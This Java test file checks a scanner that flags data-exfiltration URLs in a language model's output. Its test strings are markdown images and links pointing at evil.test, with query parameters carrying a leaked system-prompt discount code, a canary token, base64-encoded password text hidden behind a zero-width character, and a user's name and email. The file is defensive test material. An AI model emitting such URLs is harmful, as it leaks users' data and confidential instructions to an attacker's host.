package io.trustgate.firewall;

import static org.assertj.core.api.Assertions.assertThat;

import io.trustgate.api.Finding;
import io.trustgate.api.ScanContext;
import io.trustgate.api.ScanText;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** Must-flag and must-pass samples (test resources exfiltration/*.tsv, written for this project). */
class ExfiltrationScannerCorpusTest {
    static final Normalizer NORMALIZER = new Normalizer();
    static final ExfiltrationScanner SCANNER = ExfiltrationScanner.fromOptions(
            new ScannerOptions(Map.of("allowed-domains", List.of("docs.example.com", "images.example.org"))));

    static List<String[]> rows(String name) throws IOException {
        try (InputStream in = ExfiltrationScannerCorpusTest.class.getResourceAsStream("/exfiltration/" + name)) {
            List<String[]> out = new ArrayList<>();
            for (String line : new String(in.readAllBytes(), StandardCharsets.UTF_8).split("\n")) {
                if (!line.isBlank() && !line.startsWith("#")) {
                    out.add(line.replace("\\n", "\n").split("\t", -1));
                }
            }
            return out;
        }
    }

    static List<Finding> scan(String text) {
        return SCANNER.scan(NORMALIZER.normalize(text, ScanText.Stage.OUTPUT));
    }

    @Test
    void flagsEveryMustFlagSampleWithItsTypeAndTheUrlSpan() throws IOException {
        List<String[]> rows = rows("must-flag.tsv");
        assertThat(rows).hasSizeGreaterThanOrEqualTo(15);
        for (String[] row : rows) {
            List<Finding> found = scan(row[1]);
            assertThat(found).as(row[1]).anySatisfy(f -> {
                assertThat(f.type()).isEqualTo(row[0]);
                assertThat(f.score()).isGreaterThanOrEqualTo(0.5);
                String span = row[1].substring(f.start(), f.end());
                assertThat(span).as("span").containsAnyOf("http", "//", "evil", "unknown");
                assertThat(span).doesNotContain(" ").doesNotEndWith(")");
            });
        }
    }

    @Test
    void passesEveryMustPassSample() throws IOException {
        for (String[] row : rows("must-pass.tsv")) {
            assertThat(scan(row[0])).as(row[0]).isEmpty();
        }
    }

    @Test
    void everyExternalImageIsFlaggedWhenNoDomainIsAllowed() {
        var strict = new ExfiltrationScanner(List.of());
        var st = NORMALIZER.normalize("![d](https://docs.example.com/a.png)", ScanText.Stage.OUTPUT);
        assertThat(strict.scan(st)).singleElement().extracting(Finding::type).isEqualTo("EXTERNAL_IMAGE");
    }

    @Test
    void allowedDomainCoversSubdomainsButNotLookAlikes() {
        var s = new ExfiltrationScanner(List.of("example.com"));
        assertThat(s.allowed("example.com")).isTrue();
        assertThat(s.allowed("img.example.com")).isTrue();
        assertThat(s.allowed("evilexample.com")).isFalse();
        assertThat(s.allowed("example.com.evil.test")).isFalse();
    }

    @Test
    void flagsAValueCopiedFromTheSystemPromptAndACanary() {
        var ctx = new ScanContext(
                Optional.of("You are the support bot of Acme. Discount code WINTER-ALPHA-2026 is internal."),
                List.of("cnry-7f3k"),
                Optional.empty());
        var leak = NORMALIZER.normalize("[x](https://evil.test/?c=WINTER-ALPHA-2026)", ScanText.Stage.OUTPUT);
        assertThat(SCANNER.scan(leak, ctx))
                .singleElement()
                .satisfies(f -> assertThat(f.score()).isGreaterThanOrEqualTo(0.85));
        var canary = NORMALIZER.normalize("[x](https://evil.test/?c=abc-cnry-7f3k)", ScanText.Stage.OUTPUT);
        assertThat(SCANNER.scan(canary, ctx))
                .singleElement()
                .satisfies(f -> assertThat(f.score()).isGreaterThanOrEqualTo(0.9));
    }

    @Test
    void spanMapsBackThroughZeroWidthObfuscation() {
        String text = "ok ![a](https://ev\u200bil.test/p?d=dGhlIHVzZXIgcGFzc3dvcmQgaXMgaHVudGVyMg==) end";
        List<Finding> found = scan(text);
        assertThat(found).singleElement().satisfies(f -> {
            assertThat(f.type()).isEqualTo("IMAGE_EXFILTRATION");
            assertThat(text.substring(f.start(), f.end()))
                    .startsWith("https://ev")
                    .endsWith("==");
        });
    }

    @Test
    void strongerEvidenceScoresHigher() {
        double weak = scan("[a](https://evil.test/?id=a7Hf92KdLq0Zx3Vb8Nm4Tr6Yp1)")
                .get(0)
                .score();
        double strong = scan("[a](https://evil.test/?d=the+user+is+called+Jane+and+lives+in+Paris&e=jane%40x.example)")
                .get(0)
                .score();
        assertThat(strong).isGreaterThan(weak);
    }
}
